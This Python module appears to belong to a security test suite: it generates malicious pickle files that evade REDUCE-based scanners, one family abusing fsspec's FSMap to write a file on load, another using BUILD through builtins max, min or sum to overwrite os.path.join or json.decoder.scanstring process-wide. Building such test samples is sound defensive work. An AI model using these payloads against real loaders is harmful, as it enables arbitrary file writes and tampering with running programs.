"""Generated pickles whose container and BUILD opcodes act on objects they did not build.

Two families the red team found (issue 11):

- ``gadget``: SETITEM/SETITEMS/APPEND on an instance of an imported class call
  that class's ``__setitem__``/``append``.  fsspec's ``FSMap.__setitem__`` writes
  a file; the instance is made by NEWOBJ, ``copyreg._reconstructor`` or
  ``copyreg.__newobj__`` and no global is ever called by REDUCE.
- ``modswap``: BUILD on a module reached through a function that hands back its
  argument (``max``, ``min``, ``sum([], m)``) rewrites a module attribute for the
  whole process; the ``pickle-check-globals`` loader writes the canary when a
  watched module changed, so "fires" means "global state really changed".
"""

from __future__ import annotations

import os
import random
import struct
from pathlib import Path

from trainguard.samples.base import Sample

GADGET_MAKE = ("newobj", "reconstructor", "newobj_reduce")
GADGET_OPS = ("setitem", "setitems")
LAUNDER = ("max", "min", "sum")
STATES = ("slots", "dict")
# (a module as GLOBAL reaches it, the attribute replaced by builtins.repr): the
# pickle-check-globals loader watches both modules.
SWAPS = ((("os", "path"), "join"), (("json", "decoder"), "scanstring"))


def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _u(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _instance(cls: tuple[str, str], make: str) -> bytes:
    if make == "newobj":
        return _g(*cls) + b")\x81"
    if make == "reconstructor":
        return _g("copyreg", "_reconstructor") + b"(" + _g(*cls) + _g("builtins", "object") + b"NtR"
    return _g("copyreg", "__newobj__") + b"(" + _g(*cls) + b"tR"


def gadget(make: str, op: str) -> Sample:
    ident = f"gadget-fsmap-{make}-{op}"

    def build(folder: Path, canary: Path) -> Path:
        where, name = os.path.split(os.path.abspath(canary))
        fs = _instance(("fsspec.implementations.local", "LocalFileSystem"), make)
        fs += b"}(" + _u("auto_mkdir") + b"\x89" + _u("_intrans") + b"\x89"
        fs += _u("_transaction") + b"Nub"
        m = _instance(("fsspec.mapping", "FSMap"), make) + b"}(" + _u("fs") + fs
        m += _u("root") + _u(where) + _u("_root_key_to_str") + _u(where + "/")
        m += _u("missing_exceptions") + b")ub"
        write = _u(name) + b"C\x05pwned"
        m += write + b"s" if op == "setitem" else b"(" + write + b"u"
        path = folder / f"{ident}.pkl"
        path.write_bytes(b"\x80\x02" + m + b"0}" + _u("epoch") + b"K\x03s.")
        return path

    title = f"fsspec FSMap made by {make}, written by {op.upper()}"
    return Sample(ident, title, title, "", "pickle", True, True, "high", ("fsspec",), build)


def modswap(launder: str, state: str, swap: int) -> Sample:
    (module, leaf), attr = SWAPS[swap]
    ident = f"modswap-{launder}-{state}-{module}.{leaf}.{attr}"

    def build(folder: Path, canary: Path) -> Path:
        # GLOBAL os path is the module posixpath itself; the pure built-in hands it back.
        held = _g(module, leaf)
        if launder == "sum":
            target = _g("builtins", "sum") + b"(]" + held + b"tR"  # sum([], start=module)
        else:
            target = _g("builtins", launder) + b"(" + held + b"l\x85R"
        entry = _u(attr) + _g("builtins", "repr")
        st = b"N}" + entry + b"s\x86" if state == "slots" else b"}" + entry + b"s"
        body = target + st + b"b0}(" + _u("canary") + _u(str(canary)) + b"u."
        path = folder / f"{ident}.pkl"
        path.write_bytes(b"\x80\x02" + body)
        return path

    title = f"{module}.{leaf}.{attr} swapped by BUILD through builtins.{launder} ({state} state)"
    return Sample(ident, title, title, "", LOADER_GLOBALS, True, True, "critical", (), build)


LOADER_GLOBALS = "pickle-check-globals"


def draw_mutate(rng: random.Random) -> Sample:
    if rng.random() < 0.5:
        return gadget(rng.choice(GADGET_MAKE), rng.choice(GADGET_OPS))
    return modswap(rng.choice(LAUNDER), rng.choice(STATES), rng.randrange(len(SWAPS)))
